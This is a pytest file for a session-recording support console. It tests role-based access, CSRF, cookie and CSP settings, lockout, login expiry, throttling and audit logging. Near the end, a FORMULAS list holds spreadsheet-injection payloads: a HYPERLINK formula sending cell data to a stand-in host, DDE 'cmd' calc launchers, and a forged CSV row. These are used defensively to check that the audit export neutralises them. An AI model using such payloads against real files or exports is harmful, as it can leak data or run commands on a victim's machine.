"""The support console: who may see what (a role x route matrix), sign-in rules, and
that every look at a recording lands in the audit trail."""

from __future__ import annotations

import asyncio
import csv
import html
import io
import re
import sqlite3
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from collector.app import create_app
from collector.config import InstanceConfig, Settings
from collector.console.auth import Auth
from collector.control import AuditQuery, Control, User
from collector.crypto import DataKey, Keyring, hash_password
from collector.embedded import EmbeddedStore
from collector.records import seal_batch
from collector.store import SessionRecord

PASSWORD = "correct-horse-battery-0042"
# What Chromium sends for a page opened in the console; side-effecting routes accept only
# the console's own requests (collector/console/csrf.py, tests/test_request_origin.py).
NAVIGATION = {
    "Sec-Fetch-Site": "same-origin",
    "Sec-Fetch-Mode": "navigate",
    "Sec-Fetch-Dest": "document",
}
TRIALS_SESSION = "s-trials-0001"
OTHER_SESSION = "s-other-0001"
ROLES = ("anonymous", "superadmin", "support", "customer_on", "customer_off")
USERS: dict[str, tuple[str, str | None]] = {
    "superadmin": ("superadmin", None),
    "support": ("support", None),
    "customer_on": ("customer", "trials"),  # trials has customer access on
    "customer_off": ("customer", "other"),  # other has it off
}


def events(path: str) -> list[dict[str, Any]]:
    page = {"i": 3, "n": "p", "c": [{"i": 4, "x": "********"}]}
    document = {"type": 0, "id": 1, "childNodes": [{"i": 2, "n": "html", "c": [page]}]}
    return [
        {
            "type": 4,
            "timestamp": 1000,
            "data": {"href": f"http://app.test{path}", "width": 800, "height": 600},
        },
        {
            "type": 2,
            "timestamp": 1001,
            "data": {"node": document, "initialOffset": {"top": 0, "left": 0}},
        },
        {"type": 3, "timestamp": 4000, "data": {"source": 2, "type": 2, "id": 3, "x": 5, "y": 5}},
    ]


def seed(data_dir: Path, keyring: Keyring) -> None:
    async def run() -> None:
        store = EmbeddedStore(data_dir)
        try:
            for sid, instance, path in (
                (TRIALS_SESSION, "trials", "/patients/:id"),
                (OTHER_SESSION, "other", "/visits"),
            ):
                dek = DataKey.generate()
                new = SessionRecord(
                    sid,
                    instance,
                    "clinician.test",
                    "prod",
                    "tab-1",
                    0.0,
                    keyring.wrap(dek, instance, sid),
                )
                session = await store.open_session(new)
                await store.append(sid, seal_batch(session, dek, 1, events(path)))
        finally:
            await store.aclose()

    asyncio.run(run())
    control = Control.open(data_dir)
    for name, (role, instance) in USERS.items():
        control.add_user(User(name, role, instance, hash_password(PASSWORD)))  # type: ignore[arg-type]
    control.close()


@dataclass
class Console:
    app: Any
    store: EmbeddedStore
    client: TestClient


@pytest.fixture(scope="module")
def console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Console]:
    root = tmp_path_factory.mktemp("console")
    data_dir = root / "var"
    keyring = Keyring.create(root / "keyring.json")
    seed(data_dir, keyring)
    settings = Settings(
        data_dir=data_dir,
        keyring=root / "keyring.json",
        instances=(
            InstanceConfig(
                name="trials",
                app_keys=("k-trials",),
                allowed_origins=("http://127.0.0.1:*",),
                customer_access=True,
            ),
            InstanceConfig(name="other", app_keys=("k-other",)),
        ),
    )
    store = EmbeddedStore(data_dir)
    app = create_app(settings, store, keyring)
    with TestClient(app, base_url="http://127.0.0.1", headers=NAVIGATION) as client:
        yield Console(app, store, client)


def sign_in(console: Console, name: str) -> TestClient:
    client = TestClient(console.app, base_url="http://127.0.0.1", headers=NAVIGATION)
    if name == "anonymous":
        return client
    page = client.get("/login")
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert csrf is not None
    done = client.post(
        "/login",
        data={"csrf": csrf.group(1), "username": name, "password": PASSWORD},
        follow_redirects=False,
    )
    assert done.status_code == 303, done.text
    return client


# (route, {role: expected status}); GETs, with redirects not followed.
SESSION_PAGES = [
    f"/console/sessions/{TRIALS_SESSION}",
    f"/console/api/sessions/{TRIALS_SESSION}/events",
    f"/console/sessions/{TRIALS_SESSION}/export",
]
OTHER_PAGES = [p.replace(TRIALS_SESSION, OTHER_SESSION) for p in SESSION_PAGES]


def expected(route: str, role: str) -> int:
    if role == "anonymous":
        return 401 if "/api/" in route else 303
    if route in ADMIN_ROUTES:
        return 200 if role == "superadmin" else 403
    if route in SESSION_PAGES:
        return 200 if role in ("superadmin", "support", "customer_on") else 404
    if route in OTHER_PAGES:
        return 200 if role in ("superadmin", "support") else 404
    if route.startswith("/console/sessions/s-missing"):
        return 404
    return 200  # the session list: scoped, but open to every role


ADMIN_ROUTES = (
    "/console/audit",
    "/console/audit.csv",
    "/console/users",
    "/console/instances",
    "/console/instances/trials",
)
MATRIX_ROUTES = [
    "/console/sessions",
    *SESSION_PAGES,
    *OTHER_PAGES,
    "/console/sessions/s-missing-0000",
    *ADMIN_ROUTES,
]


@pytest.mark.parametrize("role", ROLES)
def test_every_route_for_every_role(console: Console, role: str) -> None:
    client = sign_in(console, role)
    for route in MATRIX_ROUTES:
        response = client.get(route, follow_redirects=False)
        assert response.status_code == expected(route, role), (role, route)
        if response.status_code == 303:
            assert response.headers["location"] == "/login"
        if response.status_code == 404:
            assert TRIALS_SESSION not in response.text
            assert OTHER_SESSION not in response.text


@pytest.mark.parametrize("role", ROLES)
def test_the_session_list_shows_only_the_roles_scope(console: Console, role: str) -> None:
    client = sign_in(console, role)
    page = client.get("/console/sessions", follow_redirects=False)
    if role == "anonymous":
        assert page.status_code == 303
        return
    shown = {TRIALS_SESSION, OTHER_SESSION} & set(re.findall(r'data-session="([^"]+)"', page.text))
    want = {
        "superadmin": {TRIALS_SESSION, OTHER_SESSION},
        "support": {TRIALS_SESSION, OTHER_SESSION},
        "customer_on": {TRIALS_SESSION},
        "customer_off": set(),
    }[role]
    assert shown == want
    if want:
        assert "/patients/:id" in page.text or "/visits" in page.text  # pages visited


def test_state_changing_requests_need_the_csrf_token(console: Console) -> None:
    client = TestClient(console.app, base_url="http://127.0.0.1", headers=NAVIGATION)
    client.get("/login")
    refused = client.post(
        "/login",
        data={"csrf": "forged", "username": "support", "password": PASSWORD},
        follow_redirects=False,
    )
    assert refused.status_code == 401
    assert "phi_console" not in refused.cookies
    signed_in = sign_in(console, "support")
    out = signed_in.post("/logout", data={"csrf": "forged"}, follow_redirects=False)
    assert out.status_code == 403
    assert signed_in.get("/console/sessions", follow_redirects=False).status_code == 200


def test_session_cookie_is_httponly_and_samesite_strict(console: Console) -> None:
    client = TestClient(console.app, base_url="http://127.0.0.1", headers=NAVIGATION)
    page = client.get("/login")
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert csrf is not None
    done = client.post(
        "/login",
        data={"csrf": csrf.group(1), "username": "support", "password": PASSWORD},
        follow_redirects=False,
    )
    cookie = next(
        v for k, v in done.headers.multi_items() if k == "set-cookie" and "phi_console=" in v
    )
    assert "HttpOnly" in cookie
    assert "SameSite=strict" in cookie.replace("Strict", "strict")
    assert "Secure" not in cookie  # plain http here; over TLS it is set (tests/test_tls.py)


def test_console_pages_carry_a_strict_csp(console: Console) -> None:
    client = sign_in(console, "support")
    for route in ("/login", "/console/sessions", f"/console/sessions/{TRIALS_SESSION}"):
        headers = client.get(route).headers
        csp = headers["content-security-policy"]
        assert "script-src 'self'" in csp
        assert "default-src 'none'" in csp
        assert "frame-ancestors 'none'" in csp
        assert headers["x-frame-options"] == "DENY"
        assert headers["x-content-type-options"] == "nosniff"


def test_wrong_passwords_lock_the_account(console: Console) -> None:
    control = console.store.control
    control.add_user(User("locky", "support", None, hash_password(PASSWORD)))
    client = TestClient(console.app, base_url="http://127.0.0.1", headers=NAVIGATION)
    for _ in range(5):
        page = client.get("/login")
        csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
        assert csrf is not None
        bad = client.post(
            "/login",
            data={"csrf": csrf.group(1), "username": "locky", "password": "nope-nope-nope"},
        )
        assert bad.status_code == 401
    page = client.get("/login")
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert csrf is not None
    locked = client.post(
        "/login",
        data={"csrf": csrf.group(1), "username": "locky", "password": PASSWORD},
        follow_redirects=False,
    )
    assert locked.status_code == 401  # the right password no longer helps
    outcomes = [r.outcome for r in control.audit_records(AuditQuery(target="locky"))[0]]
    assert "locked" in outcomes
    assert outcomes.count("bad_password") == 5


def test_an_idle_login_is_ended(console: Console) -> None:
    client = sign_in(console, "support")
    control = console.store.control
    token = client.cookies["phi_console"]
    from collector.control import token_hash

    control.touch_login(token_hash(token), 0.0)  # last used in 1970: far beyond 15 minutes
    assert client.get("/console/sessions", follow_redirects=False).status_code == 303
    assert control.get_login(token_hash(token)) is None


def test_a_view_is_audited_and_shown_under_who_viewed(console: Console) -> None:
    client = sign_in(console, "support")
    events_url = f"/console/api/sessions/{TRIALS_SESSION}/events"
    body = client.get(events_url).json()
    assert body["session"]["user"] == "clinician.test"
    assert [e["type"] for e in body["events"]] == [4, 2, 3]
    assert body["events"][1]["data"]["node"]["childNodes"][0]["tagName"] == "html"  # rrweb shape
    views, _ = console.store.control.audit_records(
        AuditQuery(action="session.view", target=TRIALS_SESSION, actor="support")
    )
    assert views
    assert views[0].source
    page = client.get(f"/console/sessions/{TRIALS_SESSION}")
    viewers = page.text.split('data-role="viewers"')[1]
    assert "support" in viewers
    assert "session.view" in viewers
    export = client.get(f"/console/sessions/{TRIALS_SESSION}/export")
    assert export.status_code == 200
    assert export.text.count("\n") == 3
    exports, _ = console.store.control.audit_records(
        AuditQuery(action="session.export", target=TRIALS_SESSION)
    )
    assert exports


def test_the_audit_log_filters_and_exports_csv(console: Console) -> None:
    client = sign_in(console, "superadmin")
    page = client.get("/console/audit", params={"action": "login"})
    assert page.status_code == 200
    assert "login" in page.text
    csv_text = client.get("/console/audit.csv", params={"action": "login"}).text
    header, *rows = csv.reader(io.StringIO(csv_text))
    assert header[:4] == ["seq", "at_utc", "actor", "action"]
    assert rows
    assert all(row[3] == "login" for row in rows)
    _, broken = console.store.control.verify_audit()
    assert broken is None


def csrf_of(client: TestClient, page: str = "/console/sessions") -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', client.get(page).text)
    return found.group(1) if found else "none"


@pytest.mark.parametrize("role", ROLES)
def test_only_a_superadmin_changes_configuration(console: Console, role: str) -> None:
    client = sign_in(console, role)
    before = console.store.control.config_version()
    posts = [
        ("/console/instances", {"name": f"new-{role.replace('_', '-')}"}),
        ("/console/instances/other/keys", {"create": "1"}),
        ("/console/instances/other", {"retention_days": "31"}),
    ]
    for route, data in posts:
        response = client.post(
            route, data={"csrf": csrf_of(client), **data}, follow_redirects=False
        )
        want = {"anonymous": 303, "superadmin": 303}.get(role, 403)
        assert response.status_code == want, (role, route)
        if role == "anonymous":
            assert response.headers["location"] == "/login"
    changed = console.store.control.config_version() != before
    assert changed == (role == "superadmin")


def test_configuration_posts_need_the_csrf_token(console: Console) -> None:
    client = sign_in(console, "superadmin")
    before = console.store.control.config_version()
    response = client.post("/console/instances/other/keys", data={"csrf": "x", "create": "1"})
    assert response.status_code == 403
    assert console.store.control.config_version() == before


def edit_form(client: TestClient, name: str) -> dict[str, str]:
    """The instance form's current fields, as the browser would post them."""
    page = client.get(f"/console/instances/{name}").text
    form = page.split('class="card edit"')[1]
    inputs = re.findall(r"<input[^>]*>", form)
    text_inputs = "".join(i for i in inputs if 'type="checkbox"' not in i)
    fields = dict(re.findall(r'name="([^"]+)"[^>]*value="([^"]*)"', text_inputs))
    fields.update(re.findall(r'<textarea name="([^"]+)"[^>]*>([^<]*)</textarea>', form))
    for name_ in re.findall(r'<input type="checkbox" name="([^"]+)" value="1" checked>', form):
        fields[name_] = "1"
    return {k: html.unescape(v) for k, v in fields.items()}


def test_an_invalid_edit_is_refused_with_the_key_and_changes_nothing(console: Console) -> None:
    client = sign_in(console, "superadmin")
    before = console.store.control.config_version()
    form = edit_form(client, "trials")
    form["allowed_origins"] = "ftp://nope"
    response = client.post("/console/instances/trials", data=form)
    assert response.status_code == 400
    assert "allowed_origins" in response.text
    assert console.store.control.config_version() == before


def test_a_superadmin_disables_an_environment_and_pages_stop_recording(console: Console) -> None:
    client = sign_in(console, "superadmin")
    ingest_hello = {
        "type": "hello",
        "v": 1,
        "app_key": "k-trials",
        "session_id": "s-console-config-1",
        "tab_id": "tab-00000001",
        "user": "clinician.test",
        "environment": "uat",
    }
    origin = {"origin": "http://127.0.0.1:5999"}
    with client.websocket_connect("/v1/ingest", headers=origin) as ws:
        ws.send_json(ingest_hello)
        first = ws.receive_json()
        assert first["type"] == "welcome", first  # no environments listed: records
    form = edit_form(client, "trials")
    form.update(
        {
            "environments_listed": "1",
            "env-0-name": "uat",
            "env-1-name": "prod",
            "env-1-enabled": "1",
            "env-1-production": "1",
            "env-1-ticket": "CHG-0042",
        }
    )
    saved = client.post("/console/instances/trials", data=form, follow_redirects=False)
    assert saved.status_code == 303, re.findall(r"data-role=.error.>([^<]*)", saved.text)
    with client.websocket_connect("/v1/ingest", headers=origin) as ws:
        ws.send_json({**ingest_hello, "session_id": "s-console-config-2"})
        refusal = ws.receive_json()
    assert (refusal["type"], refusal["code"]) == ("error", "disabled")
    page = client.get("/console/instances/trials").text
    assert "superadmin" in page.split('data-role="opt-in"')[1]  # who opted production in
    assert "CHG-0042" in page
    records, _ = console.store.control.audit_records(
        AuditQuery(action="config.change", target="trials", actor="superadmin")
    )
    assert any("environments" in r.details.get("fields", "") for r in records)
    # A refused edit shows the form again with the recorded opt-in kept, not asked anew.
    form = edit_form(client, "trials")
    form["allowed_origins"] = "ftp://nope"
    refused = client.post("/console/instances/trials", data=form)
    assert refused.status_code == 400
    assert "CHG-0042" in refused.text.split('data-role="opt-in"')[1]


def test_a_superadmin_declares_routes_checked_and_audited_like_the_config_file(
    console: Console,
) -> None:
    client = sign_in(console, "superadmin")
    before = console.store.control.config_version()
    form = edit_form(client, "other")
    assert form["routes"] == ""
    form["routes"] = "/wards/:ward/beds\n/CANARY JANE ROE/visits\n"
    refused = client.post("/console/instances/other", data=form)
    assert refused.status_code == 400
    error = re.findall(r'data-role="error">([^<]*)', refused.text)
    assert len(error) == 1
    assert "routes[1]" in error[0]
    assert "CANARY" not in error[0]
    assert console.store.control.config_version() == before
    form["routes"] = "/wards/:ward/beds\n\n  /studies/*/consent  \n"
    saved = client.post("/console/instances/other", data=form, follow_redirects=False)
    assert saved.status_code == 303
    instance = InstanceConfig.model_validate(console.store.control.instance_docs()[1]["other"])
    assert instance.routes == ("/wards/:ward/beds", "/studies/*/consent")
    assert edit_form(client, "other")["routes"] == "/wards/:ward/beds\n/studies/*/consent"
    records, _ = console.store.control.audit_records(
        AuditQuery(action="config.change", target="other", actor="superadmin")
    )
    changes = {(r.outcome, r.details.get("fields")) for r in records}
    assert {("ok", "routes"), ("invalid", None)} <= changes
    # Routes only shape the collector's own index: the recorder is never sent them.
    assert "routes" not in instance.remote_rules()


@pytest.mark.parametrize("role", ROLES)
def test_only_a_superadmin_manages_users(console: Console, role: str) -> None:
    client = sign_in(console, role)
    name = f"added-by-{role}"
    response = client.post(
        "/console/users",
        data={"csrf": csrf_of(client), "username": name, "role": "support", "instance": ""},
        follow_redirects=False,
    )
    assert response.status_code == {"anonymous": 303, "superadmin": 200}.get(role, 403)
    assert (console.store.control.get_user(name) is not None) == (role == "superadmin")


def test_a_user_added_in_the_console_signs_in_once_shown_and_can_be_disabled(
    console: Console,
) -> None:
    admin = sign_in(console, "superadmin")
    added = admin.post(
        "/console/users",
        data={"csrf": csrf_of(admin), "username": "new.support", "role": "support"},
    )
    shown = re.search(r'data-role="new-password">.*?<code>([^<]+)</code>', added.text)
    assert shown is not None
    assert shown.group(1) not in admin.get("/console/users").text  # shown once only
    newcomer = TestClient(console.app, base_url="http://127.0.0.1", headers=NAVIGATION)
    form = newcomer.get("/login").text
    csrf = re.search(r'name="csrf" value="([^"]+)"', form)
    assert csrf is not None
    signed_in = newcomer.post(
        "/login",
        data={"csrf": csrf.group(1), "username": "new.support", "password": shown.group(1)},
        follow_redirects=False,
    )
    assert signed_in.status_code == 303
    assert newcomer.get("/console/sessions", follow_redirects=False).status_code == 200
    admin.post("/console/users/new.support", data={"csrf": csrf_of(admin), "action": "disable"})
    assert newcomer.get("/console/sessions", follow_redirects=False).status_code == 303
    actions = [
        r.action for r in console.store.control.audit_records(AuditQuery(target="new.support"))[0]
    ]
    assert {"user.add", "login", "user.disable"} <= set(actions)


def test_the_dev_instance_is_never_stored(tmp_path: Path) -> None:
    keyring = Keyring.create(tmp_path / "keyring.json")
    settings = Settings(data_dir=tmp_path / "var", keyring=tmp_path / "keyring.json")
    settings = settings.with_dev_instance()
    store = EmbeddedStore(settings.data_dir)
    store.control.add_user(User("admin", "superadmin", None, hash_password(PASSWORD)))
    app = create_app(settings, store, keyring)
    with TestClient(app, base_url="http://127.0.0.1", headers=NAVIGATION) as client:
        form = client.get("/login").text
        csrf = re.search(r'name="csrf" value="([^"]+)"', form)
        assert csrf is not None
        client.post(
            "/login", data={"csrf": csrf.group(1), "username": "admin", "password": PASSWORD}
        )
        page = client.get("/console/instances/dev")
        assert "exists only while the collector runs with" in page.text
        refused = client.post(
            "/console/instances/dev/keys", data={"csrf": csrf_of(client), "create": "1"}
        )
        assert refused.status_code == 409
        assert store.control.instance_docs()[1] == {}


# -- issue 11: audit CSV, who viewed, per-address throttle, absolute login lifetime --------


def post_login(
    app: Any, username: str, password: str, address: str = "testclient"
) -> tuple[TestClient, Any]:
    """One sign-in attempt through the form, from `address`."""
    client = TestClient(app, base_url="http://127.0.0.1", client=(address, 50000))
    page = client.get("/login")
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert csrf is not None
    done = client.post(
        "/login",
        data={"csrf": csrf.group(1), "username": username, "password": password},
        follow_redirects=False,
    )
    return client, done


# Typed as user names at the sign-in form (synthetic canaries): formulas that would fetch
# or compute when the audit CSV is opened in a spreadsheet, and a forged record.
FORMULAS = (
    '=HYPERLINK("http://canary.test/x?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\uff1d1+1",
    'canary\n=HYPERLINK("http://canary.test/row")\r\nforged,row',
)


def test_the_audit_csv_runs_no_formula_and_keeps_one_record_per_row(console: Console) -> None:
    for index, name in enumerate(FORMULAS):
        _, refused = post_login(console.app, name, "wrong-password-000", f"192.0.2.{index + 1}")
        assert refused.status_code == 401
    client = sign_in(console, "superadmin")
    text = client.get("/console/audit.csv", params={"action": "login"}).text
    lines = text.split("\r\n")
    assert "\n" not in text.replace("\r\n", "")  # no record spills onto a second line
    assert all(line.startswith('"') for line in lines if line)  # every field quoted
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == len([line for line in lines if line])
    actors = {row[2] for row in rows[1:]}
    for row in rows:
        for value in row:
            first = value.lstrip(" \u3000")[:1]
            assert first not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20" or not first, row
    assert "'" + FORMULAS[0] in actors  # shown as text, nothing lost
    assert "'=1+1" in actors  # the form strips the tab; the quote still comes first
    assert 'canary\\x0a=HYPERLINK("http://canary.test/row")\\x0d\\x0aforged,row' in actors


def test_failed_logins_naming_a_session_do_not_empty_who_viewed_it(console: Console) -> None:
    viewer = sign_in(console, "support")
    assert viewer.get(f"/console/api/sessions/{OTHER_SESSION}/events").status_code == 200
    # What the review did: 200 failed sign-ins with the session id typed as the user
    # name (each an audit record whose target is the session id), after the real view.
    auth = Auth(Settings(), console.store.control)
    for i in range(200):
        auth.failed(OTHER_SESSION, f"198.51.100.{i % 250}", "unknown_user")
    page = viewer.get(f"/console/sessions/{OTHER_SESSION}")
    viewers = page.text.split('data-role="viewers"')[1].split("</table>")[0]
    assert "session.view" in viewers
    assert "support" in viewers
    assert "Nobody yet" not in viewers
    assert "login" not in viewers


def throttled_console(tmp_path: Path, **limits: Any) -> tuple[Any, Control]:
    """A console of its own (its throttle state starts empty), with `limits` set."""
    keyring = Keyring.create(tmp_path / "keyring.json")
    settings = Settings(data_dir=tmp_path / "var", keyring=tmp_path / "keyring.json", **limits)
    store = EmbeddedStore(settings.data_dir)
    for name in ("amy", "ben", "cal", "dee", "eve", "fay"):
        store.control.add_user(User(name, "support", None, hash_password(PASSWORD)))
    return create_app(settings, store, keyring), store.control


def test_one_address_cannot_spray_passwords_or_lock_every_account(tmp_path: Path) -> None:
    # About one refill in a week: the test never sees a token come back by itself.
    app, control = throttled_console(
        tmp_path, login_address_burst=3, login_address_per_minute=0.0001
    )
    with TestClient(app):
        statuses = []
        for name in ("amy", "ben", "cal", "dee", "eve", "fay"):
            _, response = post_login(app, name, "Winter-2026-canary!", "203.0.113.7")
            statuses.append(response.status_code)
        assert statuses == [401, 401, 401, 429, 429, 429]
        _, refused = post_login(app, "amy", PASSWORD, "203.0.113.7")  # even the right one
        assert refused.status_code == 429
        assert int(refused.headers["retry-after"]) > 0
        assert "Too many sign-in attempts from your address" in refused.text
        # Only three passwords were checked; the throttle was audited once, not per request.
        outcomes = [r.outcome for r in control.audit_records(AuditQuery(action="login"))[0]]
        assert sorted(outcomes) == ["bad_password"] * 3 + ["throttled"]
        # Another address is not affected, nor any account locked by the spray.
        _, other = post_login(app, "fay", PASSWORD, "198.51.100.20")
        assert other.status_code == 303
        # An IPv6 client draws from its /64's one bucket, whatever address it takes.
        sixes = [
            post_login(app, "ben", "wrong-password-000", f"2001:db8:7:7::{i:x}")[1].status_code
            for i in range(1, 6)
        ]
        assert sixes == [401, 401, 401, 429, 429]


def test_a_flood_of_expired_forms_is_throttled_and_audited_once(tmp_path: Path) -> None:
    """A bad CSRF token costs a sign-in attempt too: a script posting forms without one
    cannot write an audit record per request (the audit table is what it would fill)."""
    app, control = throttled_console(
        tmp_path, login_address_burst=3, login_address_per_minute=0.0001
    )
    with TestClient(app):
        client = TestClient(app, base_url="http://127.0.0.1", client=("203.0.113.9", 50000))
        statuses = [
            client.post(
                "/login",
                data={"csrf": "forged", "username": "amy", "password": "x"},
                headers=NAVIGATION,
                follow_redirects=False,
            ).status_code
            for _ in range(50)
        ]
        assert statuses[:3] == [401, 401, 401]  # the form again: "The form expired"
        assert set(statuses[3:]) == {429}
        outcomes = [r.outcome for r in control.audit_records(AuditQuery(action="login"))[0]]
        assert sorted(outcomes) == ["bad_csrf"] * 3 + ["throttled"]


def test_successful_sign_ins_do_not_use_up_the_address_budget(tmp_path: Path) -> None:
    app, _ = throttled_console(tmp_path, login_address_burst=2, login_address_per_minute=0.0001)
    with TestClient(app):
        for _ in range(6):  # an office behind one address signing in all morning
            _, done = post_login(app, "amy", PASSWORD, "203.0.113.50")
            assert done.status_code == 303


def test_a_login_ends_after_its_absolute_lifetime_however_active(console: Console) -> None:
    client = sign_in(console, "support")
    token = client.cookies["phi_console"]
    from collector.control import token_hash

    assert client.get("/console/sessions", follow_redirects=False).status_code == 200
    now = time.time()
    db = sqlite3.connect(console.store.control.path)
    with db:  # signed in 13 hours ago, used a moment ago: active, but past 12 hours
        db.execute(
            "UPDATE logins SET created_at = ?, last_seen = ? WHERE token_hash = ?",
            (now - 13 * 3600, now, token_hash(token)),
        )
    db.close()
    ended = client.get("/console/sessions", follow_redirects=False)
    assert ended.status_code == 303
    assert ended.headers["location"] == "/login"
    assert console.store.control.get_login(token_hash(token)) is None
    outs = console.store.control.audit_records(AuditQuery(action="logout", actor="support"))[0]
    assert outs[0].outcome == "expired"
